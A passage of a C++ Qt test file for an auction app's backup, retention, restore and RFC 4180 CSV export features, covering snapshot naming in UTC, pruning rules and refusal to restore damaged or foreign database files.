// Backups and exports as an operator relies on them: an hourly snapshot that is a real, complete
// copy; retention that keeps the right files; a restore that refuses anything it cannot open and
// otherwise brings back the marathon as it was; CSV files a spreadsheet reads correctly and cannot
// be tricked into running.

#include "BackupManager.h"
#include "CsvExporter.h"
#include "EngineFixture.h"

#include <QDir>
#include <QFile>
#include <QSqlDatabase>
#include <QSqlQuery>
#include <QTest>
#include <QUuid>

#ifdef Q_OS_UNIX
#include <time.h>
#endif

using namespace sb::auction;
using namespace Qt::StringLiterals;

namespace sb::auction::test {

namespace {

QString snapshotName(const QDateTime& utc)
{
    return u"sothebais-%1T%2Z.db"_s.arg(utc.date().toString(u"yyyyMMdd"_s),
                                        utc.time().toString(u"HHmmss"_s));
}

QString snapshotName(std::int64_t utcMs)
{
    return snapshotName(QDateTime::fromMSecsSinceEpoch(utcMs, Qt::UTC));
}

QStringList filesIn(const QString& directory)
{
    return QDir(directory).entryList(QDir::Files, QDir::Name);
}

QByteArray readAll(const QString& path)
{
    QFile file(path);
    if (!file.open(QIODevice::ReadOnly))
        return {};
    return file.readAll();
}

bool writeAll(const QString& path, const QByteArray& bytes)
{
    QFile file(path);
    return file.open(QIODevice::WriteOnly) && file.write(bytes) == bytes.size();
}

QStringList bidderNames(const QList<BidRecord>& bids)
{
    QStringList names;
    for (const BidRecord& b : bids)
        names.append(b.bidderName);
    return names;
}

// A strict RFC 4180 reader: CRLF after every record, fields quoted when they need to be, "" for a
// quote inside a quoted field. nullopt when the text breaks any of that.
std::optional<QList<QStringList>> parseCsv(const QString& text)
{
    QList<QStringList> rows;
    QStringList row;
    QString field;
    bool inQuotes = false;
    bool wasQuoted = false;
    qsizetype i = 0;
    const qsizetype n = text.size();
    while (i < n) {
        const QChar c = text[i];
        if (inQuotes) {
            if (c == u'"') {
                if (i + 1 < n && text[i + 1] == u'"') {
                    field += u'"';
                    i += 2;
                    continue;
                }
                inQuotes = false;
                ++i;
                if (i < n && text[i] != u',' && text[i] != u'\r')
                    return std::nullopt; // text after a closing quote
                continue;
            }
            field += c;
            ++i;
            continue;
        }
        if (c == u'"') {
            if (!field.isEmpty() || wasQuoted)
                return std::nullopt; // a quote inside an unquoted field
            inQuotes = true;
            wasQuoted = true;
            ++i;
            continue;
        }
        if (c == u',' || c == u'\r') {
            if (c == u'\r' && (i + 1 >= n || text[i + 1] != u'\n'))
                return std::nullopt; // CR without LF
            row.append(field);
            field.clear();
            wasQuoted = false;
            if (c == u'\r') {
                rows.append(row);
                row.clear();
                ++i;
            }
            ++i;
            continue;
        }
        if (c == u'\n')
            return std::nullopt; // a bare line feed outside quotes
        field += c;
        ++i;
    }
    if (inQuotes || !field.isEmpty() || !row.isEmpty())
        return std::nullopt; // unterminated quote or a last record without CRLF
    return rows;
}

struct CsvFile
{
    QString raw;
    QStringList header;
    QList<QStringList> rows;

    QString cell(qsizetype row, const QString& column) const
    {
        const qsizetype index = header.indexOf(column);
        if (index < 0 || row >= rows.size())
            return u"<missing>"_s;
        return rows[row].value(index, u"<missing>"_s);
    }
    qsizetype rowWhere(const QString& column, const QString& value) const
    {
        for (qsizetype r = 0; r < rows.size(); ++r) {
            if (cell(r, column) == value)
                return r;
        }
        return -1;
    }
};

std::optional<CsvFile> readCsv(const QString& path)
{
    CsvFile csv;
    csv.raw = QString::fromUtf8(readAll(path));
    const auto parsed = parseCsv(csv.raw);
    if (!parsed || parsed->isEmpty())
        return std::nullopt;
    csv.header = parsed->constFirst();
    csv.rows = parsed->mid(1);
    for (const QStringList& row : std::as_const(csv.rows)) {
        if (row.size() != csv.header.size())
            return std::nullopt;
    }
    return csv;
}

// A file that holds a schema version this build does not know.
// Writes an SQLite file with one table and the given user_version.
bool writeDatabase(const QString& path, const QString& table, int userVersion)
{
    const QString name = u"newer-"_s + QUuid::createUuid().toString(QUuid::WithoutBraces);
    bool ok = false;
    {
        QSqlDatabase db = QSqlDatabase::addDatabase(u"QSQLITE"_s, name);
        db.setDatabaseName(path);
        if (db.open()) {
            QSqlQuery q(db);
            ok = q.exec(u"CREATE TABLE %1(x INTEGER)"_s.arg(table)) &&
                 q.exec(u"PRAGMA user_version=%1"_s.arg(userVersion));
            q.finish();
            db.close();
        }
    }
    QSqlDatabase::removeDatabase(name);
    return ok;
}

bool writeNewerDatabase(const QString& path)
{
    return writeDatabase(path, u"future"_s, 99);
}

#ifdef Q_OS_UNIX
// Runs a test as if the machine's clock were set to another zone, since backup names are UTC
// but a streamer's computer is not.
class LocalZoneGuard
{
public:
    explicit LocalZoneGuard(const QByteArray& zone)
        : m_hadZone(qEnvironmentVariableIsSet("TZ")), m_oldZone(qgetenv("TZ"))
    {
        qputenv("TZ", zone);
        tzset();
    }
    ~LocalZoneGuard()
    {
        if (m_hadZone)
            qputenv("TZ", m_oldZone);
        else
            qunsetenv("TZ");
        tzset();
    }
    LocalZoneGuard(const LocalZoneGuard&) = delete;
    LocalZoneGuard& operator=(const LocalZoneGuard&) = delete;

private:
    bool m_hadZone;
    QByteArray m_oldZone;
};
#endif

} // namespace

class TestBackups : public QObject
{
    Q_OBJECT

private slots:
    void backupNowIsACompleteCopy();
    void runIfDueTakesOneSnapshotPerHour();
    void runIfDueKeepsADayOfHourlySnapshots();
    void pruneKeepsHourlyAndDaily();
    void backupNamesAreUtcWhateverTheLocalZone();
    void restoreRefusesWhatItCannotOpen_data();
    void restoreRefusesWhatItCannotOpen();
    void restoreBringsBackTheSnapshot();
    void restoreIsRefusedWhileTheMarathonRuns();
    void prunedFolderLosesKilledPartials();
    void restoreAfterCrashFoldsTheOldLogIntoTheKeptFile();

    void csvHasTheBidsAndTheWinner();
    void csvQuotesLikeRfc4180();
    void csvDefusesFormulas();
};

void TestBackups::backupNowIsACompleteCopy()
{
    EngineFixture fx;
    fx.at(kDay1Open);
    QCOMPARE(fx.bid(u"alice"_s, u"0.05 ETH"_s).kind, BidOutcome::Kind::Accepted);
    QCOMPARE(fx.bid(u"bob"_s, u"0.001 ETH"_s).kind, BidOutcome::Kind::Rejected);
    QCOMPARE(fx.bid(u"carol"_s, u"0.06 ETH"_s).kind, BidOutcome::Kind::Accepted);

    const QString folder = fx.dir.filePath(u"backups"_s);
    BackupManager backups(*fx.store, fx.clock, folder);
    fx.clock.setNow(utcMs(2026, 3, 1, 12, 5, 7));
    QString created;
    QString error;
    QVERIFY2(backups.backupNow(&created, &error), qPrintable(error));
    QCOMPARE(created, QDir(folder).filePath(u"sothebais-20260301T120507Z.db"_s));
    QCOMPARE(filesIn(folder), QStringList{u"sothebais-20260301T120507Z.db"_s}); // no .partial
    QVERIFY2(BackupManager::verify(created, &error), qPrintable(error));
    const QList<BackupInfo> listed = backups.backups();
    QCOMPARE(listed.size(), 1);
    QCOMPARE(listed[0].path, created);
    QCOMPARE(listed[0].takenUtcMs, utcMs(2026, 3, 1, 12, 5, 7));

    // The engine keeps going; the snapshot stays as it was when taken.
    QCOMPARE(fx.bid(u"dave"_s, u"0.07 ETH"_s).kind, BidOutcome::Kind::Accepted);

    {
        AuctionStore copy;
        QVERIFY2(copy.openReadOnly(created, &error), qPrintable(error));
        const QList<BidRecord> liveBids = fx.store->bids().value();
        const QList<BidRecord> copiedBids = copy.bids().value();
        QCOMPARE(bidderNames(copiedBids), (QStringList{u"alice"_s, u"bob"_s, u"carol"_s}));
        for (int i = 0; i < copiedBids.size(); ++i) {
            QCOMPARE(copiedBids[i].id, liveBids[i].id);
            QCOMPARE(copiedBids[i].amount, liveBids[i].amount);
            QCOMPARE(copiedBids[i].status, liveBids[i].status);
            QCOMPARE(copiedBids[i].rejection, liveBids[i].rejection);
        }
        const QList<AuctionEvent> copiedEvents = copy.events(0, 1000).value();
        const QList<AuctionEvent> liveEvents = fx.store->events(0, 1000).value();
        QVERIFY(copiedEvents.size() < liveEvents.size());
        QCOMPARE(copy.lastSeq().value(), copiedEvents.constLast().seq);
        for (int i = 0; i < copiedEvents.size(); ++i) {
            QCOMPARE(copiedEvents[i].seq, liveEvents[i].seq);
            QCOMPARE(copiedEvents[i].timeUtcMs, liveEvents[i].timeUtcMs);
            QCOMPARE(copiedEvents[i].type, liveEvents[i].type);
            QCOMPARE(copiedEvents[i].payload, liveEvents[i].payload);
        }
        QCOMPARE(copiedEvents.constLast().payload.value(u"bidder"_s).toString(), u"carol"_s);
        QString loadError;
        const auto marathon = copy.loadMarathon(&loadError);
        QVERIFY2(marathon, qPrintable(loadError));
        QCOMPARE(marathon->config, fx.engine->config());
        QCOMPARE(copy.loadAuctions(&loadError).constFirst().leaderBidId, copiedBids[2].id);
    }

    // A second snapshot in the same second replaces the first with the newer state.
    QVERIFY2(backups.backupNow(&created, &error), qPrintable(error));
    QVERIFY2(BackupManager::verify(created, &error), qPrintable(error));
    QCOMPARE(filesIn(folder), QStringList{u"sothebais-20260301T120507Z.db"_s});
    AuctionStore second;
    QVERIFY2(second.openReadOnly(created, &error), qPrintable(error));
    QCOMPARE(second.bidCount().value(), 4);
    QCOMPARE(second.lastSeq().value(), fx.store->lastSeq().value());
}

void TestBackups::runIfDueTakesOneSnapshotPerHour()
{
    EngineFixture fx;
    const QString folder = fx.dir.filePath(u"backups"_s);
    BackupManager backups(*fx.store, fx.clock, folder);
    const std::int64_t start = fx.clock.nowUtcMs();

    QStringList expected;
    QString error;
    Gwei amount = eth("0.05");
    // Every 5 minutes for 3 hours, with the auction running part of the time.
    for (std::int64_t elapsed = 0; elapsed <= 3 * kHour; elapsed += 5 * kMinute) {
        fx.at(start + elapsed);
        if (elapsed % kHour == 0)
            expected.append(snapshotName(start + elapsed));
        if (fx.engine->auctions().constFirst().state == DayState::Active) {
            QCOMPARE(fx.bid(u"alice"_s, amount.toEthString()).kind, BidOutcome::Kind::Accepted);
            amount = *amount.checkedAdd(eth("0.01"));
        }
        QVERIFY2(backups.runIfDue(&error), qPrintable(error));
        QCOMPARE(filesIn(folder), expected);
    }
    QCOMPARE(expected.size(), 4);

    // A minute short of the hour is not due; the hour is.
    fx.clock.setNow(start + 4 * kHour - kMinute);
    QVERIFY2(backups.runIfDue(&error), qPrintable(error));
    QCOMPARE(filesIn(folder).size(), 4);
    fx.clock.setNow(start + 4 * kHour);
    QVERIFY2(backups.runIfDue(&error), qPrintable(error));
    QCOMPARE(filesIn(folder).size(), 5);
    for (const BackupInfo& b : backups.backups())
        QVERIFY2(BackupManager::verify(b.path, &error), qPrintable(error));
}

void TestBackups::runIfDueKeepsADayOfHourlySnapshots()
{
    EngineFixture fx;
    const QString folder = fx.dir.filePath(u"backups"_s);
    BackupManager backups(*fx.store, fx.clock, folder);
    const std::int64_t start = fx.clock.nowUtcMs(); // 2026-03-01 11:00 UTC
    QString error;
    for (std::int64_t elapsed = 0; elapsed <= 26 * kHour; elapsed += 20 * kMinute) {
        fx.clock.setNow(start + elapsed);
        QVERIFY2(backups.runIfDue(&error), qPrintable(error));
    }
    // 27 taken; the 24 newest cover both days' newest, so exactly those are left.
    const QList<BackupInfo> left = backups.backups();
    QCOMPARE(left.size(), BackupManager::kKeepHourly);
    QCOMPARE(left.constFirst().takenUtcMs, start + 26 * kHour);
    QCOMPARE(left.constLast().takenUtcMs, start + 3 * kHour);
}

void TestBackups::pruneKeepsHourlyAndDaily()
{
    EngineFixture fx;
    fx.at(kDay1Open);
    QCOMPARE(fx.bid(u"alice"_s, u"0.05 ETH"_s).kind, BidOutcome::Kind::Accepted);

    // One real snapshot, copied under 160 names: 40 days × 4 a day at 01:17:42, 07:17:42, ...
    BackupManager seed(*fx.store, fx.clock, fx.dir.filePath(u"seed"_s));
    QString seedPath;
    QString error;
    QVERIFY2(seed.backupNow(&seedPath, &error), qPrintable(error));
    const QString folder = fx.dir.filePath(u"backups"_s);
    QVERIFY(QDir().mkpath(folder));
    const QDate firstDay(2026, 1, 25);
    const QList<int> hours = {1, 7, 13, 19};
    QStringList expectedKept;
    for (int d = 0; d < 40; ++d) {
        for (int hour : hours) {
            const QString name =
                snapshotName(QDateTime(firstDay.addDays(d), QTime(hour, 17, 42), Qt::UTC));
            QVERIFY(QFile::copy(seedPath, QDir(folder).filePath(name)));
            // The 24 newest are the last 6 days; the newest of each of the last 30 days is the
            // 19:17:42 one of days 10..39.
            if (d >= 34 || (hour == 19 && d >= 10))
                expectedKept.append(name);
        }
    }
    // Other files in the folder are not the manager's to delete.
    const QStringList others = {u"notes.txt"_s, u"sothebais-latest.db"_s,
                                u"sothebais-20260101T000000Z.db.partial"_s};
    for (const QString& other : others)
        QVERIFY(writeAll(QDir(folder).filePath(other), "keep me"));
    fx.clock.setNow(utcMs(2026, 3, 5, 20));

    BackupManager backups(*fx.store, fx.clock, folder);
    QCOMPARE(backups.backups().size(), 160);
    const QStringList deleted = backups.prune();
    QCOMPARE(deleted.size(), 160 - 48);
    QCOMPARE(expectedKept.size(), 48);

    QStringList expectedFiles = expectedKept + others;
    expectedFiles.sort();
    QCOMPARE(filesIn(folder), expectedFiles);
    for (const QString& path : deleted)
        QVERIFY2(!expectedKept.contains(QFileInfo(path).fileName()), qPrintable(path));
    QCOMPARE(backups.backups().constFirst().path,
             QDir(folder).filePath(u"sothebais-20260305T191742Z.db"_s));
    QCOMPARE(backups.backups().constLast().path,
             QDir(folder).filePath(u"sothebais-20260204T191742Z.db"_s));

    // Pruning again finds nothing more to delete; the survivors are still real backups.
    QVERIFY(backups.prune().isEmpty());
    QVERIFY2(BackupManager::verify(backups.backups().constLast().path, &error), qPrintable(error));
}

void TestBackups::backupNamesAreUtcWhateverTheLocalZone()
{
#ifndef Q_OS_UNIX
    QSKIP("Changing the local zone at run time is only done on Unix here");
#else
    // In New York 2026-03-08 02:00-03:00 does not exist locally (spring forward). A backup taken
    // at 02:30 UTC is named ...T023000Z and must still count as a backup.
    const LocalZoneGuard zone("America/New_York");
    EngineFixture fx;
    fx.at(kDay1Open);
    QCOMPARE(fx.bid(u"alice"_s, u"0.05 ETH"_s).kind, BidOutcome::Kind::Accepted);
    const QString folder = fx.dir.filePath(u"backups"_s);
    BackupManager backups(*fx.store, fx.clock, folder);
    QString error;

    fx.clock.setNow(utcMs(2026, 3, 8, 2, 30));
    QVERIFY2(backups.runIfDue(&error), qPrintable(error));
    QCOMPARE(filesIn(folder), QStringList{u"sothebais-20260308T023000Z.db"_s});
    QCOMPARE(backups.backups().size(), 1);
    QCOMPARE(backups.backups().constFirst().takenUtcMs, utcMs(2026, 3, 8, 2, 30));

    // Twenty minutes later nothing is due; an hour later the next one is.
    fx.clock.setNow(utcMs(2026, 3, 8, 2, 50));
    QVERIFY2(backups.runIfDue(&error), qPrintable(error));
    QCOMPARE(filesIn(folder).size(), 1);
    fx.clock.setNow(utcMs(2026, 3, 8, 3, 30));
    QVERIFY2(backups.runIfDue(&error), qPrintable(error));
    QCOMPARE(filesIn(folder),
             (QStringList{u"sothebais-20260308T023000Z.db"_s, u"sothebais-20260308T033000Z.db"_s}));
    // Fall back: 01:30 happens twice in New York; the names still sort and count as UTC.
    fx.clock.setNow(utcMs(2026, 11, 1, 1, 30));
    QVERIFY2(backups.runIfDue(&error), qPrintable(error));
    QCOMPARE(backups.backups().constFirst().takenUtcMs, utcMs(2026, 11, 1, 1, 30));
    QCOMPARE(backups.backups().size(), 3);
#endif
}

void TestBackups::restoreRefusesWhatItCannotOpen_data()
{
    QTest::addColumn<QString>("kind");
    QTest::addColumn<QString>("expectedError");
    QTest::newRow("garbage") << u"garbage"_s << u"damaged or not a database"_s;
    QTest::newRow("truncated snapshot") << u"truncated"_s << u"damaged or not a database"_s;
    QTest::newRow("empty file") << u"empty"_s << u"not a SothebAIs Studio database"_s;
    QTest::newRow("newer version") << u"newer"_s << u"not a SothebAIs Studio database"_s;
    QTest::newRow("missing") << u"missing"_s << u"does not exist"_s;
    // A right version number is not enough: the tables must be a marathon's.
    QTest::newRow("known version, foreign tables")
        << u"foreign"_s << u"not a SothebAIs Studio database"_s;
}

void TestBackups::restoreRefusesWhatItCannotOpen()
{
    QFETCH(QString, kind);
    QFETCH(QString, expectedError);

    EngineFixture fx;
    fx.at(kDay1Open);
    QCOMPARE(fx.bid(u"alice"_s, u"0.05 ETH"_s).kind, BidOutcome::Kind::Accepted);
    QCOMPARE(fx.bid(u"bob"_s, u"0.06 ETH"_s).kind, BidOutcome::Kind::Accepted);

    const QString candidate = fx.dir.filePath(u"sothebais-20260301T110000Z.db"_s);
    if (kind == u"garbage"_s) {
        QByteArray junk;
        for (int i = 0; i < 4096; ++i)
            junk.append(char((i * 7919) % 251));
        QVERIFY(writeAll(candidate, junk));
    } else if (kind == u"truncated"_s) {
        BackupManager backups(*fx.store, fx.clock, fx.dir.filePath(u"backups"_s));
        QString path;
        QString error;
        QVERIFY2(backups.backupNow(&path, &error), qPrintable(error));
        const QByteArray whole = readAll(path);
        QVERIFY(whole.size() > 8192);
        QVERIFY(writeAll(candidate, whole.left(whole.size() / 2)));
    } else if (kind == u"empty"_s) {
        QVERIFY(writeAll(candidate, {}));
    } else if (kind == u"newer"_s) {
        QVERIFY(writeNewerDatabase(candidate));
    } else if (kind == u"foreign"_s) {
        QVERIFY(writeDatabase(candidate, u"recipes"_s, AuctionStore::kSchemaVersion));
    }

    fx.closeEngine();
    const QByteArray dbBefore = readAll(fx.dbPath);
    QVERIFY(!dbBefore.isEmpty());
    const QStringList filesBefore = filesIn(fx.dir.path());

    QString kept = u"unset"_s;
    QString error;
    QVERIFY(
        !BackupManager::restore(candidate, fx.dbPath, utcMs(2026, 3, 1, 12, 10), &kept, &error));
    QVERIFY2(error.contains(expectedError), qPrintable(error));
    QVERIFY2(error.contains(candidate), qPrintable(error));

    // Nothing was touched: same database bytes, no moved-aside copy, no half-copied file.
    QCOMPARE(kept, u"unset"_s);
    QCOMPARE(readAll(fx.dbPath), dbBefore);
    QCOMPARE(filesIn(fx.dir.path()), filesBefore);

    fx.open();
    const ActionResult loaded = fx.engine->load();
    QVERIFY2(loaded.ok, qPrintable(loaded.error));
    QCOMPARE(fx.leaderName(), u"bob"_s);
    QCOMPARE(fx.store->bidCount().value(), 2);
}

void TestBackups::restoreIsRefusedWhileTheMarathonRuns()
{
    EngineFixture fx;
    fx.at(kDay1Open);
    QCOMPARE(fx.bid(u"alice"_s, u"0.05 ETH"_s).kind, BidOutcome::Kind::Accepted);
    BackupManager backups(*fx.store, fx.clock, fx.dir.filePath(u"backups"_s));
    QString snapshot;
    QString error;
    QVERIFY2(backups.backupNow(&snapshot, &error), qPrintable(error));
    QCOMPARE(fx.bid(u"bob"_s, u"0.06 ETH"_s).kind, BidOutcome::Kind::Accepted);

    // The engine still has the file open: replacing it under a live marathon would lose bob.
    const QStringList filesBefore = filesIn(fx.dir.path());
    QString kept = u"unset"_s;
    QVERIFY(!BackupManager::restore(snapshot, fx.dbPath, utcMs(2026, 3, 1, 12, 10), &kept, &error));
    QVERIFY2(error.contains(u"in use by another process"_s), qPrintable(error));
    QCOMPARE(kept, u"unset"_s);
    QCOMPARE(filesIn(fx.dir.path()), filesBefore);
    QCOMPARE(fx.bid(u"carol"_s, u"0.07 ETH"_s).kind, BidOutcome::Kind::Accepted);
    QCOMPARE(fx.store->bidCount().value(), 3);

    // Stopped, the same restore goes through.
    fx.closeEngine();
    QVERIFY2(BackupManager::restore(snapshot, fx.dbPath, utcMs(2026, 3, 1, 12, 10), &kept, &error),
             qPrintable(error));
    fx.open();
    QCOMPARE(fx.store->bidCount().value(), 1);
}

void TestBackups::prunedFolderLosesKilledPartials()
{
    EngineFixture fx;
    const QString folder = fx.dir.filePath(u"backups"_s);
    BackupManager backups(*fx.store, fx.clock, folder);
    QString error;
    QVERIFY2(backups.backupNow(nullptr, &error), qPrintable(error));
    // What killed snapshots leave: one long untouched, one still being written.
    const QString stale = QDir(folder).filePath(u"sothebais-20260301T100000Z.db.partial"_s);
    const QString fresh = QDir(folder).filePath(u"sothebais-20260301T105959Z.db.partial"_s);
    QVERIFY(writeAll(stale, QByteArray(1000, 'x')));
    QVERIFY(writeAll(fresh, QByteArray(1000, 'x')));
    QFile staleFile(stale);
    QVERIFY(staleFile.open(QIODevice::ReadWrite));
    QVERIFY(staleFile.setFileTime(QDateTime::currentDateTimeUtc().addSecs(-3600),
                                  QFileDevice::FileModificationTime));
    staleFile.close();

    const QStringList deleted = backups.prune();
    QCOMPARE(deleted, QStringList{stale});
    QVERIFY(!QFile::exists(stale));
    QVERIFY(QFile::exists(fresh));
    QCOMPARE(backups.backups().size(), 1);
}

void TestBackups::restoreBringsBackTheSnapshot()
{
    EngineFixture fx;
    fx.at(kDay1Open);
    QCOMPARE(fx.bid(u"alice"_s, u"0.05 ETH"_s).kind, BidOutcome::Kind::Accepted);
    QCOMPARE(fx.bid(u"bob"_s, u"0.06 ETH"_s).kind, BidOutcome::Kind::Accepted);
    BackupManager backups(*fx.store, fx.clock, fx.dir.filePath(u"backups"_s));
    QString snapshot;
    QString error;
    QVERIFY2(backups.backupNow(&snapshot, &error), qPrintable(error));
    const std::int64_t snapshotSeq = fx.store->lastSeq().value();

    // Then something the operator wants undone, and the app is closed for the restore.
    fx.clock.advance(kMinute);
    QCOMPARE(fx.bid(u"carol"_s, u"0.5 ETH"_s).kind, BidOutcome::Kind::Accepted);
    QCOMPARE(fx.leaderName(), u"carol"_s);
    fx.closeEngine();

    QString kept;
    QVERIFY2(
        BackupManager::restore(snapshot, fx.dbPath, utcMs(2026, 3, 1, 12, 10, 30), &kept, &error),
        qPrintable(error));
    QCOMPARE(kept, fx.dbPath + u".before-restore-20260301T121030Z"_s);
    QVERIFY(!QFile::exists(fx.dbPath + u".restoring"_s));
    QVERIFY2(BackupManager::verify(snapshot, &error), qPrintable(error)); // the backup is intact

    // The kept file is the marathon as it was before the restore.
    {
        AuctionStore old;
        QVERIFY2(old.openReadOnly(kept, &error), qPrintable(error));
        QCOMPARE(bidderNames(old.bids().value()), (QStringList{u"alice"_s, u"bob"_s, u"carol"_s}));
    }

    fx.clock.advance(kMinute);
    fx.open();
    const ActionResult loaded = fx.engine->load();
    QVERIFY2(loaded.ok, qPrintable(loaded.error));
    QCOMPARE(bidderNames(fx.store->bids().value()), (QStringList{u"alice"_s, u"bob"_s}));
    QCOMPARE(fx.leaderName(), u"bob"_s);
    QCOMPARE(fx.engine->auctions().constFirst().state, DayState::Active);
    QCOMPARE(fx.engine->minimumNextBid(0), eth("0.063"));
    QCOMPARE(fx.store->lastSeq().value(), snapshotSeq);

    // The auction carries on from the restored state, and the journal continues without a gap.
    fx.events.clear();
    QCOMPARE(fx.bid(u"dave"_s, u"0.07 ETH"_s).kind, BidOutcome::Kind::Accepted);
    QCOMPARE(fx.leaderName(), u"dave"_s);
    QVERIFY(!fx.events.isEmpty());
    QCOMPARE(fx.events.constFirst().seq, snapshotSeq + 1);
}

void TestBackups::restoreAfterCrashFoldsTheOldLogIntoTheKeptFile()
{
    EngineFixture fx;
    fx.at(kDay1Open);
    QCOMPARE(fx.bid(u"alice"_s, u"0.05 ETH"_s).kind, BidOutcome::Kind::Accepted);
    BackupManager backups(*fx.store, fx.clock, fx.dir.filePath(u"backups"_s));
    QString snapshot;
    QString error;
    QVERIFY2(backups.backupNow(&snapshot, &error), qPrintable(error));
    QCOMPARE(fx.bid(u"bob"_s, u"0.06 ETH"_s).kind, BidOutcome::Kind::Accepted);

    // What a crash leaves behind: the main file and its write-ahead log, not checkpointed.
    QVERIFY(QFile::exists(fx.dbPath + u"-wal"_s));
    const QByteArray crashedDb = readAll(fx.dbPath);
    const QByteArray crashedWal = readAll(fx.dbPath + u"-wal"_s);
    QVERIFY(!crashedWal.isEmpty());
    fx.closeEngine();
    QFile::remove(fx.dbPath + u"-shm"_s);
    QVERIFY(writeAll(fx.dbPath, crashedDb));
    QVERIFY(writeAll(fx.dbPath + u"-wal"_s, crashedWal));

    QString kept;
    QVERIFY2(BackupManager::restore(snapshot, fx.dbPath, utcMs(2026, 3, 1, 12, 30), &kept, &error),
             qPrintable(error));
    // The old log was folded into the old file before it was kept: no log is left beside the
    // path to be replayed into the restored file.
    QVERIFY(!QFile::exists(fx.dbPath + u"-wal"_s));
    QVERIFY(!QFile::exists(kept + u"-wal"_s));

    // The restored file is the snapshot, not the snapshot with the old log replayed over it.
    fx.open();
    const ActionResult loaded = fx.engine->load();
    QVERIFY2(loaded.ok, qPrintable(loaded.error));
    QVERIFY2(fx.store->integrityCheck(&error), qPrintable(error));
    QCOMPARE(bidderNames(fx.store->bids().value()), QStringList{u"alice"_s});
    QCOMPARE(fx.leaderName(), u"alice"_s);

    // And the kept file still has what was committed before the crash.
    AuctionStore old;
    QVERIFY2(old.openReadOnly(kept, &error), qPrintable(error));
    QCOMPARE(bidderNames(old.bids().value()), (QStringList{u"alice"_s, u"bob"_s}));
}

void TestBackups::csvHasTheBidsAndTheWinner()
{
    MarathonConfig config = simpleConfig();
    for (int i = 1; i <= config.days; ++i) {
        Lot lot;
        lot.title = u"Noun %1"_s.arg(i);
        lot.tokenId = QString::number(100 + i);
        config.lots.append(lot);
    }
    EngineFixture fx(config);
    fx.at(kDay1Open + 2 * kMinute);
    const BidOutcome alice = fx.bid(u"alice"_s, u"0.05 ETH"_s);
    QCOMPARE(alice.kind, BidOutcome::Kind::Accepted);
    fx.clock.advance(kMinute);
    const BidOutcome bob = fx.bid(u"bob"_s, u"0.051 ETH"_s); // needs 0.0525
    QCOMPARE(bob.kind, BidOutcome::Kind::Rejected);
    fx.clock.advance(kMinute);
    const BidOutcome carol = fx.bid(u"carol"_s, u"Ξ0.06"_s);
    QCOMPARE(carol.kind, BidOutcome::Kind::Accepted);
    fx.at(kDay1Close + 20 * kSecond);
    QCOMPARE(fx.eventsOfType(EventType::AuctionWinner).size(), 1);

    const QString folder = fx.dir.filePath(u"export"_s);
    QString error;
    QVERIFY2(CsvExporter::exportAll(*fx.store, folder, &error), qPrintable(error));

    const auto bids = readCsv(QDir(folder).filePath(u"bids.csv"_s));
    QVERIFY2(bids, "bids.csv is not valid RFC 4180");
    QCOMPARE(bids->header,
             (QStringList{u"bid_id"_s, u"day"_s, u"lot"_s, u"source"_s, u"source_id"_s,
                          u"bidder_id"_s, u"bidder"_s, u"amount_eth"_s, u"amount_gwei"_s,
                          u"posted_utc"_s, u"received_utc"_s, u"status"_s, u"reason_code"_s,
                          u"reason"_s, u"note"_s, u"text"_s}));
    QCOMPARE(bids->rows.size(), 3);

    QCOMPARE(bids->cell(0, u"bid_id"_s), QString::number(alice.bidId));
    QCOMPARE(bids->cell(0, u"day"_s), u"1"_s);
    QCOMPARE(bids->cell(0, u"lot"_s), u"1"_s);
    QCOMPARE(bids->cell(0, u"source"_s), u"test"_s);
    QCOMPARE(bids->cell(0, u"bidder"_s), u"alice"_s);
    QCOMPARE(bids->cell(0, u"amount_eth"_s), u"0.05"_s);
    QCOMPARE(bids->cell(0, u"amount_gwei"_s), u"50000000"_s);
    QCOMPARE(bids->cell(0, u"posted_utc"_s), u"2026-03-01T12:02:00.000Z"_s);
    QCOMPARE(bids->cell(0, u"received_utc"_s), u"2026-03-01T12:02:00.000Z"_s);
    QCOMPARE(bids->cell(0, u"status"_s), u"accepted"_s);
    QCOMPARE(bids->cell(0, u"reason_code"_s), QString());
    QCOMPARE(bids->cell(0, u"reason"_s), QString());
    QCOMPARE(bids->cell(0, u"text"_s), u"0.05 ETH"_s);

    QCOMPARE(bids->cell(1, u"bidder"_s), u"bob"_s);
    QCOMPARE(bids->cell(1, u"amount_eth"_s), u"0.051"_s);
    QCOMPARE(bids->cell(1, u"status"_s), u"rejected"_s);
    QCOMPARE(bids->cell(1, u"reason_code"_s), u"below_increment"_s);
    QVERIFY(!bids->cell(1, u"reason"_s).isEmpty());
    QCOMPARE(bids->cell(1, u"reason"_s), fx.store->bid(bob.bidId).value()->rejection->message);

    QCOMPARE(bids->cell(2, u"amount_eth"_s), u"0.06"_s);
    QCOMPARE(bids->cell(2, u"text"_s), u"Ξ0.06"_s);

    const auto results = readCsv(QDir(folder).filePath(u"results.csv"_s));
    QVERIFY2(results, "results.csv is not valid RFC 4180");
    QCOMPARE(results->header,
             (QStringList{u"day"_s, u"lot"_s, u"title"_s, u"token_id"_s, u"state"_s, u"start_utc"_s,
                          u"end_utc"_s, u"winner_bidder_id"_s, u"winner"_s, u"amount_eth"_s,
                          u"amount_gwei"_s, u"winning_bid_id"_s, u"settlement_note"_s}));
    QCOMPARE(results->rows.size(), 3);
    QCOMPARE(results->cell(0, u"day"_s), u"1"_s);
    QCOMPARE(results->cell(0, u"title"_s), u"Noun 1"_s);
    QCOMPARE(results->cell(0, u"token_id"_s), u"101"_s);
    QCOMPARE(results->cell(0, u"state"_s), u"PROCESSING"_s); // won, awaiting settlement
    QCOMPARE(results->cell(0, u"start_utc"_s), u"2026-03-01T12:00:00.000Z"_s);
    QCOMPARE(results->cell(0, u"end_utc"_s), u"2026-03-01T13:00:00.000Z"_s);
    QCOMPARE(results->cell(0, u"winner"_s), u"carol"_s);
    QCOMPARE(results->cell(0, u"winner_bidder_id"_s), u"carol"_s);
    QCOMPARE(results->cell(0, u"amount_eth"_s), u"0.06"_s);
    QCOMPARE(results->cell(0, u"amount_gwei"_s), u"60000000"_s);
    QCOMPARE(results->cell(0, u"winning_bid_id"_s), QString::number(carol.bidId));
    QCOMPARE(results->cell(1, u"day"_s), u"2"_s);
    QCOMPARE(results->cell(1, u"title"_s), u"Noun 2"_s);
    QCOMPARE(results->cell(1, u"state"_s), u"PENDING"_s);
    QCOMPARE(results->cell(1, u"winner"_s), QString());
    QCOMPARE(results->cell(1, u"amount_eth"_s), QString());

    // Exporting again replaces the files (the operator exports after each day).
    fx.at(utcMs(2026, 3, 2, 12, 1));
    QCOMPARE(fx.bid(u"dave"_s, u"1,000.5 ETH"_s).kind, BidOutcome::Kind::Accepted);
